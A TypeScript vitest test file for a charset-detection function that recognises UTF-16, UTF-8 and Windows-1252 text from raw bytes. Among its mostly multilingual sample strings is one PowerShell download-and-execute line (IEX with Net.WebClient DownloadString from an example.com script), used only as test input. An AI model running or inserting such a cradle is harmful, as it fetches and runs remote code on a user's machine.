import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { anyCharacter, runs } from '../../../../scripts/seed-tests.ts';
import { isUtf8 } from '../utf8.ts';
import { encodeText } from './encode.ts';
import { recognizeCharset } from './recognize.ts';

const recognize = (bytes: Uint8Array) => recognizeCharset(bytes, 'auto');
const utf8 = { charset: 'utf-8', notes: [] };

describe('UTF-16 without a byte order mark', () => {
  test.each([
    'Hi',
    'whoami',
    'IEX (New-Object Net.WebClient).DownloadString("http://example.com/a.ps1")\r\n',
    'Grüße an Zoë',
    'It’s 5 € – “cheap”…',
    'Привет, мир – “да”',
    'Καλημέρα κόσμε',
    'שלום עולם',
    'مرحبا بالعالم',
    'echo 日本語; Write-Output "完了"',
    'smile 😀 and go',
    'ended by NUL\0',
  ])('recognizes %j in both byte orders', (text) => {
    for (const charset of ['utf-16le', 'utf-16be'] as const)
      expect(recognize(encodeText(text, charset, 'text'))).toEqual({ charset, notes: ['read-as-utf-16'] });
  });

  test('any Latin text of two or more characters', () => {
    const latin = fc.string({ unit: fc.constantFrom(...' \t\nabcXYZ019.,;-éüßÿñ'), minLength: 2, maxLength: 60 });
    fc.assert(
      fc.property(latin, fc.constantFrom('utf-16le', 'utf-16be'), (text, charset) => {
        expect(recognize(encodeText(text, charset, 'text')).charset).toBe(charset);
      }),
      { numRuns: runs(500) },
    );
  });
});

describe('valid UTF-8', () => {
  test.each([
    '',
    'A\0',
    'ab\0c',
    'ab\0cd\0',
    'name\0value\0',
    '\0\0\0\0',
    'Bush hid the facts',
    '日本語',
    '\u001B[31mred\u001B[0m',
    'é😀',
    '\u0002field\u0003',
  ])('%j stays UTF-8', (text) => expect(recognize(encodeText(text, 'utf-8', 'text'))).toEqual(utf8));

  test('any text without NUL and other controls stays UTF-8', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: anyCharacter, maxLength: 40 }).filter((text) => !/(?!\s)\p{Cc}/u.test(text) && !text.startsWith('\uFEFF')),
        (text) => {
          expect(recognize(encodeText(text, 'utf-8', 'text'))).toEqual(utf8);
        },
      ),
      { numRuns: runs(1000) },
    );
  });
});

describe('Windows-1252', () => {
  test.each(['Grüße', 'äöü', 'ä', 'café', 'façade à gauche', 'déjà vu…', '„Zürich“ – 5 €', 'niño ¿qué?', 'smørrebrød på fjorden', 'coração', 'entrée\u00A0!'])(
    'recognizes %j',
    (text) => expect(recognize(encodeText(text, 'windows-1252', 'text'))).toEqual({ charset: 'windows-1252', notes: ['read-as-windows-1252'] }),
  );

  test.each([
    ['truncated UTF-8', [0xe6, 0x97, 0xa5, 0xe6, 0x9c]],
    ['truncated inside the text', [0xe2, 0x82, 0x78]],
    ['UTF-8 with one damaged byte', [0xc3, 0xa9, 0xff, 0x41]],
    ['an overlong form', [0x41, 0xc0, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['bytes that Windows-1252 lacks', [0x41, 0x81, 0x8d]],
    ['controls', [0x01, 0xe4, 0x02]],
    ['gzip', [0x1f, 0x8b, 0x08, 0x00, 0xe4]],
  ])('does not recognize %s', (_title, values) => expect(recognize(Uint8Array.from(values))).toEqual(utf8));

  test('random bytes, such as keys and digests, are rarely taken as text', () => {
    let recognized = 0;
    let state = 1;
    for (let run = 0; run < 2000; run++) {
      const bytes = Uint8Array.from({ length: 16 }, () => (state = (state * 48_271) % 0x7fff_ffff) >> 8);
      if (!isUtf8(bytes) && recognize(bytes).charset !== 'utf-8') recognized++;
    }
    expect(recognized).toBeLessThan(40);
  });
});

test('a chosen set and a byte order mark are certain', () => {
  expect(recognizeCharset(Uint8Array.of(0x48, 0, 0x69, 0), 'utf-8')).toEqual(utf8);
  expect(recognize(Uint8Array.of(0xff, 0xfe, 0x48, 0))).toEqual({ charset: 'utf-16le', notes: [] });
  expect(recognize(Uint8Array.of(0xef, 0xbb, 0xbf, 0x48))).toEqual(utf8);
});

// Tools that turn bytes into text recognize the character set in the same way.
test.each([
  'tools/base64-string-converter/decode.ts',
  'tools/text-to-binary/operations.ts',
  'tools/text-to-unicode/unescape.ts',
  'tools/url-encoder/decode.ts',
])('%s uses it', (file) => {
  expect(readFileSync(new URL(`../../../${file}`, import.meta.url), 'utf8')).toContain('recognizeCharset(');
});
